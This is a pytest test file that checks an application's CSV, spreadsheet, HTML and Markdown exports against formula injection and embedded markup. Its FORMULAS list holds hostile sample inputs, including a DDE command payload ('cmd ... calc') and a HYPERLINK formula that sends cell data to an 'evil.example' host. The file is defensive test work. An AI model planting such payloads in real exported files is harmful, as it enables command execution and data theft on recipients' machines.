"""Every export, found by walking: no cell is a formula, no word is Markdown or HTML, and each is known here."""

import csv
import io
import re
import sqlite3
from datetime import UTC
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from cli.commands.app import fourfold
from cli.commands.query import as_text
from data.cells import safe
from flows.refresh import refresh
from strategy.reviews.tables import Review
from tests.attack.poisoned import MARK, PAYLOAD, poison_packs, poison_state
from tests.attack.wire import Live
from tests.attacks import Attack
from tests.making import make, sales
from views import pack, pack_files, review
from views.audit import exported
from views.entry import open_desk

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "%0A=1", "|calc",
    "\u200b=1+1", "\x00=1+1",
)  # fmt: skip
ROOT = Path(__file__).resolve().parents[2]
WRITERS = re.compile(r"csv\.writer\(|write_csv\(|download_button\(|to_csv\(|xlsxwriter|to_excel\(|\.writer\(")
KNOWN = {  # file: where it is attacked
    "views/audit.py": "test_no_cell_of_the_audit_is_a_formula",
    "pages/admin/audit.py": "test_no_cell_of_the_audit_is_a_formula",
    "pages/strategy/reviews.py": "test_a_pack_holds_words_and_nothing_that_runs",
    "cli/commands/query.py": "test_no_cell_of_an_answer_is_a_formula",
    "flows/starter/facts.py": "",  # writes sample facts, no words of anybody
}


def test_every_export_is_known_here() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for room in ("cli", "flows", "pages", "strategy", "views")
        for path in (ROOT / room).rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(KNOWN), "a new export: attack it here, and add it to KNOWN"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_word(text: str, attack: Attack) -> None:
    assert safe(text) == f"'{text}"
    attack.held("exports: formulas in cells")


@pytest.mark.parametrize("text", ["", "words", "3 - 1", "a=b", "10 %", "née", "'x"])
def test_a_word_stays_as_it_is(text: str) -> None:
    assert safe(text) == text
    assert [safe(one) for one in (-1.5, 3, None, True)] == ["-1.5", "3", "", "True"]


def test_no_cell_of_an_answer_is_a_formula(tmp_path: Path, attack: Attack) -> None:
    plain = pa.table({"=channel": list(FORMULAS), "revenue": [-1.0] * len(FORMULAS)})
    heads, *lines = csv.reader(io.StringIO(as_text(plain), newline=""))
    assert heads == ["'=channel", "revenue"]
    assert all(line[0].startswith("'") and line[1] == "-1" for line in lines)
    rows = [f'2025-01-10,shop,{n},1,c,"{text}",true' for n, text in enumerate(FORMULAS[:5], 1)]
    folder = make(tmp_path, {"files/sales.csv": sales(*rows)})
    refresh(folder)
    said = CliRunner().invoke(fourfold, ["query", "revenue", "--by", "channel", "--csv", "--workspace", str(folder)])
    assert said.exit_code == 0, said.output
    found = [line[0] for line in csv.reader(io.StringIO(said.output, newline=""))][1:]
    assert len(found) == 5 and all(cell.startswith("'") for cell in found), found
    attack.held("exports: formulas in cells", len(FORMULAS) + 5)


def test_the_control_of_formulas_is_computed_by_a_spreadsheet() -> None:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = FORMULAS[0], safe(FORMULAS[0])
    assert [book.active[place].data_type for place in ("A1", "A2")] == ["f", "s"]


def test_no_cell_of_the_audit_is_a_formula(own_demo: Path, attack: Attack) -> None:
    with sqlite3.connect(own_demo / "var/state.sqlite") as database:
        for (trigger,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            database.execute(f'DROP TRIGGER "{trigger}"')
        database.execute("UPDATE audit SET who = '=who', origin = '@origin', unit = '+unit', command = '-command'")
        database.execute(
            """UPDATE audit_change SET after = json_object('title', '=1+1', 'name', '@x', '=field', '+y')"""
        )
    lines = list(csv.reader(io.StringIO(exported(open_desk(own_demo, "oskar_lind"), {}), newline="")))
    assert len(lines) > 100
    cells = [cell for line in lines[1:] for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:].isdigit())]
    attack.held("exports: formulas in cells", 7)


def test_a_pack_holds_words_and_nothing_that_runs(own_demo: Path, attack: Attack) -> None:
    poison_state(own_demo / "var/state.sqlite")
    assert poison_packs(own_demo / "var/state.sqlite")
    desk, packs = open_desk(own_demo, "clara_winther"), 0
    for one in desk.office.read(Review):
        view = review.review_view(desk, one.key, "", UTC)
        if view.pack is None:
            continue
        shown = pack.pack_view(desk, view.pack)
        page, text = pack_files.html(shown), pack_files.markdown(shown)
        assert not Live(page.partition("</head>")[2]).found
        assert "<img" not in text.replace("\\<img", "") and "[b](" not in text.replace("\\[b\\](", "")
        assert re.fullmatch(r"[a-z0-9-]+\.md", pack_files.file_name(shown, "md"))
        packs += MARK in page
    assert packs, "the control: the payload stands in a pack"
    assert Live(f"<body>{PAYLOAD}</body>").found
    attack.held("exports: HTML and Markdown in packs", 2 * packs)
